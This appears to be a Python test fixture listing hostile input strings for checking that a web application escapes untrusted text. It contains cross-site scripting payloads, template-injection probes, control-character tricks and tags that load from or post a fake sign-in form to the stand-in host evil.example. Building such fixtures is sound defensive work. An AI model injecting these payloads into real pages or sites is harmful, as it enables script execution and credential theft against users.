"""Texts that strangers send to whoever looks at them in a browser."""

from __future__ import annotations

from typing import Final

RUNS: Final = "window.ran=1;alert(1)"
ELSEWHERE: Final = "//evil.example/x"

TEXTS: Final = (
    f"<script>{RUNS}</script>",
    f'"><script src={ELSEWHERE}></script>',
    f'\'><img src=x onerror="{RUNS}">',
    f'" autofocus onfocus="{RUNS}" x="',
    f"' autofocus onfocus='{RUNS}' x='",
    f"</textarea></pre></title></select></style></script><svg onload={RUNS}>",
    f"--><!--<iframe srcdoc='<script>{RUNS}</script>'></iframe>]]>",
    f"javascript:{RUNS}",
    f"data:text/html,<script>{RUNS}</script>",
    f"<base href={ELSEWHERE}/><meta http-equiv=refresh content=0;url={ELSEWHERE}>",
    f"<link rel=stylesheet href={ELSEWHERE}><object data={ELSEWHERE}><embed src={ELSEWHERE}>",
    f"<style>*{{display:none;background:url({ELSEWHERE})}}</style><form action={ELSEWHERE}><button>Sign in",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;&#60;img src=x onerror={RUNS}&#62;",
    "{{ 7 * 7 }}{% raise %}{# #}${7*7}%s%(a)s{0}\\x3cscript\\x3e%3Cscript%3E",
    f"<math><mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUNS}&gt;'>",
    f"\u202egnp.exe\u2066 a\u200bb \u2028\u2029 \x1b[31m \x07\r\n\ufeff\u00a0{ELSEWHERE}",
    "\uff33\u0301" * 40 + "<" * 1000 + "a" * 3000,
)
"""Each could be a part of a body, a header, a type, a subject, an error or a label."""

TOGETHER: Final = "".join(it[:150] for it in TEXTS)
"""All of them in one."""
